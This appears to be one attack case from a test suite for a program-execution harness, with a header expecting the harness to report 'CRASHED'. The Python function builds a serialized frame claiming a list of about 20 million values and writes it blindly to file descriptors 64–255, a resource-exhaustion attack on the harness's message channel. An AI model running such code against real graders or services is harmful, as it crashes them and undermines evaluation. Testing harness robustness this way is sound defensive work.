# /// attack
# tries = "send a frame of millions of tiny values"
# answer = "stub"
# score = "zero"
# verdicts = ["CRASHED"]
# ///

def attack(honest, *args, **kwargs):
    say("crowd")
    count = 20 * 2**20
    head = b"\x83\xa4type\xa8Returned\xa6number\x01\xa5value\x92\xa4list\xdd" + count.to_bytes(4, "big")
    data = (len(head) + count).to_bytes(4, "big") + head + bytes(count)
    for descriptor in range(64, 256):
        try:
            view = memoryview(data)
            while view:
                view = view[_write(descriptor, view[: 2**18]) :]
        except OSError:
            pass
